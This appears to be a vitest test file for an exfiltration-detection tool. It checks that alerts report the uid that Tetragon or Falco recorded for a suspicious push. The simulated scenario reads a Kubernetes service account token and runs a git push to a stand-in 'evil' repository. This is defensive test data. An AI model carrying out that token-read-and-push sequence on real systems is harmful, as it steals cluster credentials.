/**
 * The user the push ran as: both sensors report the process's uid (Tetragon process.uid, Falco user.uid), and
 * the alert carries it as `process.uid` (an extension of INTERFACES.md's `{binary, args, pid, execId}`), so a
 * responder tells root in the container (uid 0) from the image's own user without the node's audit log.
 */
import { describe, expect, it } from 'vitest';
import { Alert as AlertProto } from '../../../src/generated/exfilwatch/v1/alert.js';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { MiB, run, Scenario } from './builder.js';

function push(source: SensorSource, uid: number | undefined, helper = false) {
  const s = new Scenario({ source });
  const c = s.container();
  const sh = s.init(c);
  s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/x.git main', { parent: sh, uid });
  const net = helper
    ? s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/evil/x.git', { parent: git, uid })
    : git;
  s.connect(net, '140.82.112.3', 443).send(net, '140.82.112.3', 443, 2 * MiB);
  const { alerts } = run(s.events);
  expect(alerts).toHaveLength(1);
  return alerts[0]!;
}

describe("the push's uid", () => {
  it.each(['tetragon', 'falco'] as SensorSource[])('%s: process.uid is the one the sensor reported', (source) => {
    expect(push(source, 1001).process.uid).toBe(1001);
    expect(push(source, 0).process.uid).toBe(0);
    expect(push(source, 1001, true).process.uid).toBe(1001);
  });

  it('null when the sensor gave none', () => {
    expect(push('tetragon', undefined).process.uid).toBeNull();
  });

  it('the alert proto reads it', () => {
    const alert = push('falco', 65532);
    const msg = AlertProto.fromJSON(JSON.parse(JSON.stringify(alert)));
    expect(AlertProto.decode(AlertProto.encode(msg).finish()).process?.uid).toBe(65532);
  });
});
